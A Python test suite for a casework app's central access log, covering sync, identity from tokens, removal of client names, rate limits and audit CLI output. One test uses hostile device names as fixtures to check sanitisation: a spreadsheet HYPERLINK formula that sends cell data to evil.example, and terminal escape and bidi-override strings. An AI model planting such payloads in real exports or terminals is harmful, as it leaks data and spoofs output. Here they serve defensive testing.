"""The central access log (issue 16): every line a laptop's vault writes reaches the server at
sync and stays there when the laptop is lost; the server logs what it serves; `koers-server
audit` answers "who read or changed this client's file, when, from which device".

Real vaults, the real server on 127.0.0.1, SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import uuid
from dataclasses import replace
from datetime import date
from pathlib import Path

import httpx
import pytest
from sqlalchemy import func, select, update

from app.access_log_sync import ACCESS_LOG_SENT, unsent_lines
from app.casework import new_id
from app.contact import Contact
from app.exports.service import CaseSelection, export_handover_pack
from app.sync_service import sync_now, transport_for
from storage import access_log, sync_state
from sync import audit_lines, server_cli
from sync.audit_lines import (
    MAX_CASE_IDS,
    MAX_SHARED_DETAIL,
    REMOVED_KINDS,
    SHIPPED_PROGRAMME_IDS,
    AccessLine,
    shareable_detail,
    shareable_record_id,
)
from sync.server import admin, audit, ratelimit
from sync.server.store import audit_log, devices, previous_assignments
from tests.app.test_casework import new_case
from tests.sync.server_harness import PASSWORD, LiveServer


def run_audit(server: LiveServer, capsys: pytest.CaptureFixture[str], *args: str):  # type: ignore[no-untyped-def]
    """`koers-server audit ARGS` on the server's database: (exit code, stdout, stderr)."""
    capsys.readouterr()
    code = server_cli.run(["--database", server.database_url, "audit", *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def stored_lines(server: LiveServer) -> int:
    with server.engine.connect() as conn:
        return int(conn.execute(select(func.count()).select_from(audit_log)).scalar_one())


# A case id as Koers makes them (a UUID): the server keeps only ids of this shape.
CASE_1 = "0b4f3c1e-1111-4222-8333-444455556666"


def line(seq: int, **changes: object) -> AccessLine:
    base = AccessLine(
        seq=seq,
        at="2026-11-30T10:00:00.000000Z",
        record_type="case",
        record_id=CASE_1,
        action="read",
    )
    return base.model_copy(update=changes)


def test_a_read_and_a_revealed_address_reach_the_server_and_outlive_the_wiped_laptop(
    server: LiveServer, laptop, capsys: pytest.CaptureFixture[str]
) -> None:
    server.add_user("anna")
    lost = laptop("anna")
    case = new_case(lost.casework, secret_address=True)
    sync_now(lost.vault)
    lost.casework.open_case(case.id)
    assert lost.casework.reveal_address(case.id) == case.address
    report = sync_now(lost.vault)
    assert report.access_lines_sent > 0 and unsent_lines(lost.vault) == 0

    code, out, err = run_audit(server, capsys, "--case", case.id, "--csv")
    assert code == 0, err
    rows = csv_rows(out)
    by_action = {r["action"]: r for r in rows if r["source"] == "laptop"}
    for action in ("create", "read", "reveal_address"):
        found = by_action[action]
        assert found["user"] == "anna" and found["device_id"] == lost.device_id
        assert found["device_name"]  # the laptop's name as enrolled
        assert found["laptop_time"] and found["received_at"]
    # The server's own line: it served the case's data to that device (its first pull
    # returns the server's change naming the holder).
    assert any(
        r["source"] == "server" and r["action"] == "pull" and r["device_id"] == lost.device_id
        for r in rows
    )

    admin.revoke_device(server.engine, lost.device_id)
    assert sync_now(lost.vault).wiped
    code, out, _ = run_audit(server, capsys, "--case", case.id, "--csv")
    after = {(r["action"], r["device_id"]) for r in csv_rows(out) if r["source"] == "laptop"}
    assert {("read", lost.device_id), ("reveal_address", lost.device_id)} <= after
    # ... and "what did this device touch" answers the same.
    code, out, _ = run_audit(server, capsys, "--device", lost.device_id)
    assert code == 0 and "reveal_address" in out and case.id in out
    # Every search is itself in the log, by the shell's user.
    searches = audit.search(server.engine, case_id=case.id).lines
    assert [s.user.startswith("shell:") for s in searches if s.record_type == "audit_log"] == [
        True,
        True,
    ]


def test_the_same_line_again_is_a_no_op_and_a_changed_one_is_refused(
    server, laptop, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="koers.server")
    server.add_user("anna")
    anna = laptop("anna")
    transport = transport_for(anna.vault)
    try:
        first = transport.push_access_log([line(1), line(2, action="reveal_address")])
        assert first.accepted == [1, 2] and not first.refused
        before = stored_lines(server)
        again = transport.push_access_log([line(1), line(2, action="reveal_address")])
        assert again.already == [1, 2] and not again.accepted and not again.refused
        changed = transport.push_access_log([line(2, action="read"), line(1, record_id="x")])
        assert sorted(changed.refused) == [1, 2]
        # An action Koers does not write is refused too (a line of another program).
        assert transport.push_access_log([line(3, action="rewrite")]).refused == [3]
    finally:
        transport.close()
    assert stored_lines(server) == before
    kept = [e for e in audit.search(server.engine, device_id=anna.device_id).lines]
    assert {(e.action, e.record_id) for e in kept} == {
        ("read", CASE_1),
        ("reveal_address", CASE_1),
    }
    # Logged by device and number only.
    refusals = [r.getMessage() for r in caplog.records if "other content" in r.getMessage()]
    assert len(refusals) == 2 and all(anna.device_id in text for text in refusals)
    assert not any(CASE_1 in r.getMessage() for r in caplog.records)


def test_device_and_account_come_from_the_token_never_from_the_line(server, laptop) -> None:
    server.add_user("anna")
    server.add_user("bram")
    anna, bram = laptop("anna"), laptop("bram")
    token = sync_state.get(bram.vault, sync_state.DEVICE_TOKEN)
    forged = {
        "lines": [
            {
                **line(1).model_dump(),
                "device_id": anna.device_id,
                "user": "anna",
            }
        ]
    }
    answer = httpx.post(
        server.url + "/v1/access-log", json=forged, headers={"Authorization": f"Bearer {token}"}
    )
    assert answer.status_code == 422 and stored_lines(server) == 0
    # Anna's line 1 and Bram's line 1 are two lines, each under its own device and account.
    for machine in (anna, bram):
        transport = transport_for(machine.vault)
        try:
            assert transport.push_access_log([line(1)]).accepted == [1]
        finally:
            transport.close()
    for machine, user in ((anna, "anna"), (bram, "bram")):
        found = audit.search(server.engine, device_id=machine.device_id).lines
        assert [(e.user, e.device_id) for e in found] == [(user, machine.device_id)]
    # A line without a token is refused.
    assert httpx.post(server.url + "/v1/access-log", json={"lines": []}).status_code == 401


def test_no_content_and_no_path_reach_the_server(
    server: LiveServer, laptop, tmp_path: Path
) -> None:
    server.add_user("anna")
    anna = laptop("anna")
    case = new_case(anna.casework, secret_address=True)
    anna.casework.update_case(replace(anna.casework.get_case(case.id), phone="06-12345678"))
    anna.casework.reveal_address(case.id)
    # The export's target names the client: the laptop's own log keeps the path, the
    # central one must not.
    target = tmp_path / "Fleur van Zanddorp" / "overdracht Fleur.pdf"
    target.parent.mkdir()
    export_handover_pack(anna.vault, target, CaseSelection(case_ids=(case.id,)), None)
    local = access_log.entries(anna.vault.db, action="export")
    assert "Fleur" in (local[0].detail or "")
    sync_now(anna.vault)
    with server.engine.connect() as conn:
        rows = [dict(r._mapping) for r in conn.execute(select(audit_log))]
    text = json.dumps(rows, default=str)
    for secret in (
        "Fleur",
        "Zanddorp",
        "Lindelaan",
        "Beekhoven",
        "06-12345678",
        str(tmp_path),
        ".pdf",
    ):
        assert secret not in text
    export = next(r for r in rows if r["action"] == "export")
    assert json.loads(export["detail"])["case_ids"] == [case.id]
    updated = next(r for r in rows if r["action"] == "update")
    assert updated["detail"] == "phone"  # field names, never values
    # The export is found by its case.
    assert any(e.action == "export" for e in audit.search(server.engine, case_id=case.id).lines)


def test_the_server_logs_assignments_and_histories_by_account(server, laptop) -> None:
    server.add_user("anna")
    server.add_user("bram")
    anna, bram = laptop("anna"), laptop("bram")
    case = new_case(anna.casework)
    sync_now(anna.vault)
    sync_now(bram.vault)  # its cursor passes the case's changes it may not read yet
    assert admin.assign(server.engine, case.id, "bram") == "anna"
    sync_now(bram.vault)  # receives the whole case: its history
    lines = audit.search(server.engine, case_id=case.id).lines
    assigned = [e for e in lines if e.action == audit.ASSIGN]
    assert len(assigned) == 1 and assigned[0].user.startswith("shell:")
    assert json.loads(assigned[0].detail or "{}") == {"to": "bram", "from": "anna"}
    history = [e for e in lines if e.action == audit.HISTORY]
    assert [(e.user, e.device_id) for e in history] == [("bram", bram.device_id)]
    # The same pull's lines name the account, one line per case per pull.
    pulls = [e for e in lines if e.action == audit.PULL and e.user == "bram"]
    assert len(pulls) <= 1
    # "What did this user touch": bram's lines only.
    mine = audit.search(server.engine, user="bram").lines
    assert mine and {e.user for e in mine} == {"bram"}


def test_a_bad_period_is_one_clear_line_and_nothing_is_written(
    server: LiveServer, capsys: pytest.CaptureFixture[str]
) -> None:
    before = stored_lines(server)
    cases = [
        (("--case", "c", "--from", "2015-01-01", "--to", "2025-01-01"), "longer than two years"),
        (("--case", "c", "--from", "2025-02-01", "--to", "2025-01-01"), "ends before it starts"),
        (("--from", "2025-01-01"), "give --case, --user or --device"),
    ]
    for args, message in cases:
        code, out, err = run_audit(server, capsys, *args)
        assert code == 2 and message in err and len(err.strip().splitlines()) == 1, err
        assert "Traceback" not in err and out == ""
    with pytest.raises(SystemExit) as bad_day:
        server_cli.run(["--database", server.database_url, "audit", "--case", "c", "--from", "1-2"])
    assert bad_day.value.code == 2 and "YYYY-MM-DD" in capsys.readouterr().err
    with pytest.raises(audit.BadAuditSearch, match="two years"):
        audit.search(server.engine, user="anna", start=date(2016, 1, 1), end=date(2026, 1, 1))
    assert stored_lines(server) == before
    # A case id longer than any is searched (and the search logged), not a crash.
    code, out, err = run_audit(server, capsys, "--case", "x" * 150)
    assert code == 0 and out.strip() == "No access-log lines match.", err
    # Two years exactly is fine, and an empty answer says so.
    code, out, _ = run_audit(
        server, capsys, "--user", "x", "--from", "2024-01-01", "--to", "2025-12-31"
    )
    assert code == 0 and out.strip() == "No access-log lines match."


def test_an_interrupted_send_resumes_without_doubles(server, laptop) -> None:
    server.add_user("anna")
    anna = laptop("anna")
    case = new_case(anna.casework)
    for _ in range(3):
        anna.casework.open_case(case.id)
    sync_now(anna.vault)
    stored = stored_lines(server)
    # The cursor lost (a sync cut off after the server stored the lines): all go again.
    with anna.vault.transaction():
        sync_state.put(anna.vault, ACCESS_LOG_SENT, 0)
    sync_now(anna.vault)
    reads = [
        e
        for e in audit.search(server.engine, case_id=case.id).lines
        if e.action == "read" and e.source == "laptop"
    ]
    assert len(reads) == 3
    # Every line of the vault is on the server once: no doubles.
    with server.engine.connect() as conn:
        central = conn.execute(
            select(func.count())
            .select_from(audit_log)
            .where(audit_log.c.device_id == anna.device_id, audit_log.c.source == "laptop")
        ).scalar_one()
    local = anna.vault.db.execute("SELECT count(*) FROM access_log").fetchone()[0]
    assert central == local and stored > 0


def test_late_arrivals_served_and_accepted_are_in_the_log(server, laptop) -> None:
    server.add_user("anna")
    server.add_user("bram")
    anna = laptop("anna")
    case = new_case(anna.casework)
    sync_now(anna.vault)
    anna.casework.record_contact(Contact(new_id(), case.id, anna.vault.now(), brief=True))
    admin.assign(server.engine, case.id, "bram")
    with server.engine.begin() as conn:  # the handover was 15 days ago: past the grace
        conn.execute(
            update(previous_assignments)
            .where(previous_assignments.c.case_id == case.id)
            .values(until=previous_assignments.c.until - 15 * 86400)
        )
    assert sync_now(anna.vault).kept_late == 1
    bram = laptop("bram")
    transport = transport_for(bram.vault)
    try:
        (waiting,) = transport.late_arrivals(case.id)
        transport.accept_late(waiting.id)
    finally:
        transport.close()
    lines = audit.search(server.engine, case_id=case.id).lines
    served = [(e.user, e.device_id) for e in lines if e.action == audit.LATE]
    accepted = [(e.user, e.device_id) for e in lines if e.action == audit.ACCEPT_LATE]
    assert served == accepted == [("bram", bram.device_id)]


# --- what an enrolled laptop (or a stolen token) must not be able to do ---------------------


def _post_lines(server: LiveServer, token: str, lines: list[dict[str, object]]) -> httpx.Response:
    return httpx.post(
        server.url + "/v1/access-log",
        json={"lines": lines},
        headers={"Authorization": f"Bearer {token}"},
        timeout=60,
    )


def _token(machine) -> str:  # type: ignore[no-untyped-def]
    return str(sync_state.get(machine.vault, sync_state.DEVICE_TOKEN))


def test_a_laptop_time_far_off_is_kept_as_unknown_and_every_search_still_answers(
    server: LiveServer, laptop, capsys: pytest.CaptureFixture[str]
) -> None:
    server.add_user("anna")
    anna = laptop("anna")
    token = _token(anna)
    # Times that are no moment of the calendar: refused whole, nothing stored.
    for bad in ("2025-13-45T99:99:99Z", "2025-06-30T23:59:60Z", "0000-00-00T00:00:00Z"):
        answer = _post_lines(server, token, [line(1, at=bad).model_dump()])
        assert answer.status_code == 422, bad
        assert "no moment of the calendar" in answer.json()["detail"]
    assert stored_lines(server) == 0
    # Real moments, but not believable: the year 9999, before 2000, centuries ahead of the
    # server. Kept (who read what stays), the laptop's time unknown.
    far = ["9999-12-31T23:59:59Z", "1970-01-01T00:00:00Z", "2999-01-01T00:00:00Z"]
    answer = _post_lines(
        server, token, [line(n + 1, at=at).model_dump() for n, at in enumerate(far)]
    )
    assert answer.status_code == 200 and answer.json()["accepted"] == [1, 2, 3]
    # The same lines again (a clock put right since): nothing doubled, nothing refused.
    again = _post_lines(server, token, [line(n + 1).model_dump() for n in range(3)])
    assert again.json()["already"] == [1, 2, 3]
    found = audit.search(server.engine, case_id=CASE_1).lines
    assert len(found) == 3
    assert all(e.laptop_time is None and e.laptop_clock_unknown for e in found)
    assert all(e.when == e.received_at and e.received_at.startswith("20") for e in found)
    code, out, err = run_audit(server, capsys, "--case", CASE_1)
    assert code == 0, err
    assert out.count("laptop clock unknown") == 3
    code, out, err = run_audit(server, capsys, "--device", anna.device_id, "--csv")
    assert code == 0, err
    assert [r["laptop_time"] for r in csv_rows(out)] == ["unknown"] * 3


def test_a_stored_time_that_cannot_be_shown_never_breaks_a_search(
    server: LiveServer, capsys: pytest.CaptureFixture[str]
) -> None:
    # A line written before the times were checked (or by hand): out of any calendar.
    with server.engine.begin() as conn:
        conn.execute(
            audit_log.insert().values(
                source="laptop",
                device_id="dev-oud",
                device_seq=1,
                user_name="anna",
                record_type="case",
                record_id=CASE_1,
                case_id=CASE_1,
                action="read",
                laptop_at=1e300,
                received_at=-1e300,
            )
        )
    (found,) = audit.search(server.engine, case_id=CASE_1).lines
    assert found.laptop_time is None and found.received_at == audit.UNKNOWN
    for args in (("--case", CASE_1), ("--case", CASE_1, "--csv")):
        code, out, err = run_audit(server, capsys, *args)
        assert code == 0 and "unknown" in out and "internal error" not in err, err


def test_an_export_line_keeps_ids_and_counts_only_and_at_most_a_few_kb(
    server: LiveServer, laptop
) -> None:
    server.add_user("anna")
    anna = laptop("anna")
    token = _token(anna)
    # A teamleider's export of a caseload of 470 cases: the laptop keeps the whole list in
    # its own log and sends the first MAX_CASE_IDS ids with a count of the rest.
    many = [str(uuid.UUID(int=n + 1)) for n in range(470)]
    detail = json.dumps({"export": "overdracht", "cases": 470, "case_ids": many, "path": "/x"})
    anna.casework.store.log_access("export", "caseload", None, detail)
    sync_now(anna.vault)
    assert unsent_lines(anna.vault) == 0
    with server.engine.connect() as conn:
        stored = conn.execute(
            select(audit_log.c.detail).where(audit_log.c.action == "export")
        ).scalar_one()
    assert len(stored) <= MAX_SHARED_DETAIL
    kept = json.loads(stored)
    assert kept["case_ids"] == many[:MAX_CASE_IDS]
    assert kept["case_ids_left_out"] == 470 - MAX_CASE_IDS and kept["cases"] == 470
    # The server cuts what another program sends the same way.
    wire = json.dumps({"export": "overdracht", "case_ids": many[:190]})
    assert len(wire) <= audit_lines.MAX_DETAIL
    answer = _post_lines(server, token, [line(900, action="export", detail=wire).model_dump()])
    assert answer.json()["accepted"] == [900]
    with server.engine.connect() as conn:
        stored = conn.execute(
            select(audit_log.c.detail).where(audit_log.c.device_seq == 900)
        ).scalar_one()
    assert json.loads(stored)["case_ids_left_out"] == 90 and len(stored) <= MAX_SHARED_DETAIL
    count = stored_lines(server)
    # A detail longer than any Koers sends is refused at the door (422, nothing stored).
    long = _post_lines(server, token, [line(901, action="read", detail="x" * 9_000).model_dump()])
    assert long.status_code == 422 and stored_lines(server) == count


def test_one_device_cannot_flood_the_log_and_a_laptop_over_the_limit_sends_later(
    server: LiveServer, laptop, monkeypatch: pytest.MonkeyPatch
) -> None:
    server.add_user("anna")
    anna = laptop("anna")
    monkeypatch.setattr(ratelimit, "ACCESS_LOG_LINES", ratelimit.Limit(5, 3600.0))
    token = _token(anna)
    assert _post_lines(server, token, [line(n).model_dump() for n in (1, 2, 3)]).status_code == 200
    over = _post_lines(server, token, [line(n).model_dump() for n in (4, 5, 6)])
    assert over.status_code == 429 and int(over.headers["retry-after"]) > 0
    assert "too many access-log lines" in over.json()["detail"]
    assert stored_lines(server) == 3
    # Bytes count too: a few big export lines stop there.
    monkeypatch.setattr(ratelimit, "ACCESS_LOG_LINES", ratelimit.Limit(10_000, 3600.0))
    monkeypatch.setattr(ratelimit, "ACCESS_LOG_BYTES", ratelimit.Limit(3_000, 3600.0))
    ids = [str(uuid.UUID(int=n + 1)) for n in range(60)]
    big = json.dumps({"export": "overdracht", "case_ids": ids})
    bulky = [line(n, action="export", detail=big).model_dump() for n in (10, 11)]
    assert _post_lines(server, token, bulky).status_code == 429
    assert stored_lines(server) == 3

    # A laptop over the limit: its sync goes on, it keeps the lines the server did not
    # take and sends them at a later sync.
    monkeypatch.setattr(ratelimit, "ACCESS_LOG_BYTES", ratelimit.Limit(2_000_000, 3600.0))
    monkeypatch.setattr(ratelimit, "ACCESS_LOG_LINES", ratelimit.Limit(3, 3600.0))
    bram_name = "bram"
    server.add_user(bram_name)
    bram = laptop(bram_name)
    case = new_case(bram.casework)
    for _ in range(5):
        bram.casework.open_case(case.id)
    report = sync_now(bram.vault)  # no exception: the journal went, the log waits
    assert not report.wiped and unsent_lines(bram.vault) > 0
    assert sync_state.pending_changes(bram.vault) == 0
    monkeypatch.setattr(ratelimit, "ACCESS_LOG_LINES", ratelimit.Limit(10_000, 3600.0))
    sync_now(bram.vault)
    assert unsent_lines(bram.vault) == 0
    reads = [
        e
        for e in audit.search(server.engine, device_id=bram.device_id).lines
        if e.action == "read" and e.source == "laptop"
    ]
    assert len(reads) == 5


def test_names_in_ids_selections_and_field_names_are_dropped(server: LiveServer, laptop) -> None:
    server.add_user("anna")
    anna = laptop("anna")
    export = {
        "export": "overdracht",
        "case_ids": ["Fatima_El_Amrani", CASE_1],
        "selection": "Jansen.Maria.Keizersgracht.12",
        "format": "Fatima",
        "period": ["Fatima", "Amrani"],
        "removed": {"Jansen": 1, "naam": 2},
        "cases": 2,
    }
    lines = [
        line(1, action="export", record_type="caseload", record_id=None, detail=json.dumps(export)),
        line(2, action="update", detail="fatima,el,amrani,keizersgracht_12,phone"),
        line(3, action="read", detail="Fatima El Amrani"),
        line(4, action="read", record_id="Fatima.El-Amrani"),
        line(5, action="restore", record_type="contact", detail="jansen_maria"),
    ]
    answer = _post_lines(server, _token(anna), [x.model_dump() for x in lines])
    assert answer.json()["accepted"] == [1, 2, 3, 4, 5]
    with server.engine.connect() as conn:
        rows = {r.device_seq: r for r in conn.execute(select(audit_log))}
    text = json.dumps([dict(r._mapping) for r in rows.values()], default=str).lower()
    for name in ("fatima", "amrani", "jansen", "maria", "keizersgracht", "el,"):
        assert name not in text
    assert json.loads(rows[1].detail) == {
        "export": "overdracht",
        "case_ids": [CASE_1],
        "removed": {"naam": 2},
        "cases": 2,
    }
    assert rows[2].detail == "phone"  # a field of the case's schema stays
    assert rows[3].detail is None and rows[4].record_id is None and rows[5].detail is None
    # The laptop sends only what the server would keep (the same rule at both ends).
    assert shareable_record_id("case", "Fatima.El-Amrani") is None
    assert shareable_detail("update", "fatima,phone", "case") == "phone"


def test_the_fixed_words_mirror_the_app() -> None:
    from app.exports.detectors import KINDS
    from app.programmes import DEFAULT_PROGRAMMES

    assert frozenset(KINDS) == REMOVED_KINDS
    assert frozenset(p.id for p in DEFAULT_PROGRAMMES) == SHIPPED_PROGRAMME_IDS
    assert audit_lines.KOERS_ID_PATTERN and re.match(audit_lines.KOERS_ID_PATTERN, new_id())


def test_device_names_are_plain_and_stored_names_print_harmless(
    server: LiveServer, laptop, capsys: pytest.CaptureFixture[str]
) -> None:
    server.add_user("anna")
    for name in ("lap\x1b[2J\x1b[31mROOD", "laptop-\u202eanna", "zero\u200bwidth", "  ", "a\nb"):
        answer = httpx.post(
            server.url + "/v1/enroll",
            json={"user": "anna", "password": PASSWORD, "device_name": name},
        )
        assert answer.status_code == 422, name
        detail = answer.json()["detail"]
        assert "device_name" in detail and "\n" not in detail
    # A formula is no control character: enrolled, and neutralised in the CSV.
    formula = '=HYPERLINK("http://evil.example/?"&B2,"Klik")'
    enrolled = httpx.post(
        server.url + "/v1/enroll",
        json={"user": "anna", "password": PASSWORD, "device_name": formula},
    )
    assert enrolled.status_code == 200
    token, device_id = enrolled.json()["token"], enrolled.json()["device_id"]
    assert _post_lines(server, token, [line(1).model_dump()]).status_code == 200
    # Names stored before the rule (or an account added on the shell) print as escapes.
    anna = laptop("anna")
    with server.engine.begin() as conn:
        conn.execute(
            update(devices)
            .where(devices.c.id == anna.device_id)
            .values(name="lap\x1b]0;pwned\x07\u202eevil")
        )
    server.add_user("-bob\x1b[2J")
    with server.engine.begin() as conn:
        audit.record(
            conn, who=None, user_name="@SUM(A1)", action="read", record_type="case",
            record_id=CASE_1,
        )  # fmt: skip
    transport = transport_for(anna.vault)
    try:
        transport.push_access_log([line(1)])
    finally:
        transport.close()

    code, out, err = run_audit(server, capsys, "--case", CASE_1, "--csv")
    assert code == 0, err
    rows = csv_rows(out)
    names = {r["device_id"]: r["device_name"] for r in rows}
    assert names[device_id] == "'" + formula
    assert names[anna.device_id] == "lap\\x1b]0;pwned\\x07\\u202eevil"
    assert "'@SUM(A1)" in {r["user"] for r in rows}
    assert not any(c in out for c in "\x1b\x07\u202e")
    for args in (("audit", "--case", CASE_1), ("device", "list"), ("user", "list")):
        capsys.readouterr()
        assert server_cli.run(["--database", server.database_url, *args]) == 0
        shown = capsys.readouterr().out
        assert not any(c in shown for c in "\x1b\x07\u202e"), args
    assert "-bob\\x1b[2J" in shown


def test_extreme_searches_are_one_clear_line(
    server: LiveServer, capsys: pytest.CaptureFixture[str]
) -> None:
    # An export line: SQLite's LIKE on a case id of 100,000 characters would fail.
    with server.engine.begin() as conn:
        audit.record(
            conn, who=None, user_name="anna", action="export", record_type="caseload",
            record_id=None, detail=json.dumps({"case_ids": [CASE_1]}),
        )  # fmt: skip
    before = stored_lines(server)
    cases = [
        (("--case", "c", "--from", "9999-12-31"), "between 2000-01-01 and"),
        (("--case", "c", "--to", "0001-01-05"), "between 2000-01-01 and"),
        (("--case", "c", "--from", "1999-12-31", "--to", "2000-06-01"), "between 2000-01-01"),
        (("--case", "x" * 100_000), "longer than 200 characters"),
        (("--user", "u" * 201), "longer than 200 characters"),
        (("--device", "d" * 201), "longer than 200 characters"),
    ]
    for args, message in cases:
        code, out, err = run_audit(server, capsys, *args)
        assert code == 2 and message in err and len(err.strip().splitlines()) == 1, err
        assert out == ""
    with pytest.raises(audit.BadAuditSearch) as refused:
        audit.search(server.engine, case_id="c", start=date(9999, 12, 31))
    assert refused.value.reason == audit.BadAuditSearch.OUT_OF_RANGE
    assert audit.check_period(None, date(2000, 6, 1)) == (date(2000, 1, 1), date(2000, 6, 1))
    assert stored_lines(server) == before


def test_the_output_says_whether_a_laptop_reported_or_the_server_recorded(
    server: LiveServer, laptop, capsys: pytest.CaptureFixture[str]
) -> None:
    server.add_user("anna")
    anna = laptop("anna")
    case = new_case(anna.casework)
    sync_now(anna.vault)
    code, out, err = run_audit(server, capsys, "--case", case.id)
    assert code == 0, err
    assert "[reported by laptop]" in out and "[recorded by server]" in out
